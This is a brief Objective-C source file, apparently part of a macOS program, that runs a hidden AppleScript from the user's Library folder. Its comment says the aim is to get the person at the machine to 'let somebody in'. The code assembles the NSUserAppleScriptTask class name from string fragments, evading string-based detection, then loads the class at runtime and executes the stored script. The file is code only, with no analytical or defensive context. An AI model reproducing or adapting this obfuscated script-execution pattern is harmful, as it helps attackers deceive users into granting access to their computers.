/* Asks who sits at the machine to let somebody in. */
#include "objc.h"
@interface NSURL
+ (id)fileURLWithPath:(id)path;
@end
extern Class NSClassFromString(id);
extern id NSHomeDirectory(void);
static id text(const char *s) { return [NSString stringWithUTF8String:s]; }
static id kind(const char *first, const char *second) {
    return [[text("NS") stringByAppendingString:text(first)] stringByAppendingString:text(second)];
}
static void act(char **env) {
    id error = 0, where = [NSHomeDirectory() stringByAppendingPathComponent:text("Library/Application Scripts/kit/ask")];
    Class task = NSClassFromString([kind("UserApple", "Script") stringByAppendingString:text("Task")]);
    id ask = [[task alloc] initWithURL:[NSURL fileURLWithPath:where] error:&error];
    [ask executeWithAppleEvent:0 completionHandler:0];
}
